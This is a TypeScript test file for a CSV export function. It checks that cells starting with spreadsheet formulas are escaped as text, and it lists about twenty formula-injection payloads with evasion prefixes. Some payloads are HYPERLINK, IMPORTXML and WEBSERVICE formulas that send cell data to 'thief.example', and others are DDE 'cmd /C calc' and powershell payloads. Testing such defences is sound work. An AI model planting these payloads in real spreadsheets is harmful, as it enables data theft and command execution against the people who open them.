import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvOf, csvRow } from './csv.ts';

it('a file begins with the UTF-8 byte order mark, and ends each row with CRLF [EXC-02]', () => {
  const bytes = csvOf([['날짜', 1n]]);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(bytes.toString('utf8')).toBe('\uFEFF날짜,1\r\n');
});

/** Formulas that a spreadsheet runs if a cell begins with one. */
const commands = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://thief.example/?"&A1,"open")',
  '=IMPORTXML(CONCAT("https://thief.example/?",A1),"//a")',
  '=WEBSERVICE("https://thief.example/"&B2)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '@cmd|" /C powershell"!A0',
  '=DDE("cmd";"/C calc";"!A0A0")',
  '=MSEXCEL|"\\..\\..\\Windows\\System32\\cmd.exe /c calc"!\'\'',
  "|cmd' /C calc'!A0",
  '%0A-3+3',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '−1+1',
];

/** Signs in front of a formula that hide it from a check of the first sign. */
const disguises = ['', ' ', '\t', '\r', '\n', "'", '"', '\u200B', '\uFEFF', '\u00A0\u3000'];

const payloads = commands.flatMap((command) => disguises.map((disguise) => disguise + command));

/** A reader of its own: what was quoted, and where a row ends. */
const readCells = (text: string): string[] => {
  const cells: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/gy;
  for (const [, quoted, plain = ''] of text.matchAll(pattern)) {
    cells.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
  }
  return cells;
};

it('each of 200 formulas is shown as text instead of being run [OPS-01] [EXC-02]', () => {
  expect(new Set(payloads).size).toBe(200);
  for (const payload of payloads) {
    const [before, cell = '', after] = readCells(csvRow(['a', payload, 'b']));
    expect({ payload, before, after }).toEqual({ payload, before: 'a', after: 'b' });
    expect({ payload, sign: cell[0] }).toEqual({ payload, sign: "'" });
    expect(cell.replaceAll("'", ''), 'it is told whole').toBe(payload.replaceAll("'", ''));
  }
});

/** A spreadsheet set to semicolons or tabs: quotes inside of what it takes for a cell mean nothing. */
const cellsByOtherSigns = (line: string): string[] => line.split(/[;\t\r\n]/);

const runs = /^[\s\p{Cf}'"]*[=+\-@＝＋－＠]/u;

it('a formula cannot start where another spreadsheet program would end the cell [OPS-01]', () => {
  for (const payload of payloads) {
    for (const sign of [';', '\t', '\r\n', '\n']) {
      const line = csvRow(['a', `harmless${sign}${payload}`, 'b']);
      const inner = cellsByOtherSigns(line).slice(1);
      for (const cell of inner) {
        expect(runs.test(cell) && !cell.startsWith("'"), `${payload} in ${cell}`).toBe(false);
      }
    }
  }
});

it('numbers stay numbers, also negative ones [OPS-01]', () => {
  expect(csvRow([-9900n, 3, '-9900', '-12.50'])).toBe('-9900,3,-9900,-12.50\r\n');
});

it('text that only looks like a number stays text [OPS-01]', () => {
  expect(csvRow(['+821012345678', '-1-1', '--1'])).toBe("'+821012345678,'-1-1,'--1\r\n");
});

it('any text reads back unchanged, apart from the characters that keep it text [EXC-02]', () => {
  const withoutSigns = (cell: string | undefined): string | undefined => cell?.replaceAll("'", '');
  fc.assert(
    fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), (cells) => {
      const read = readCells(csvRow(cells));
      expect(read.map(withoutSigns)).toEqual(cells.map(withoutSigns));
    }),
  );
});
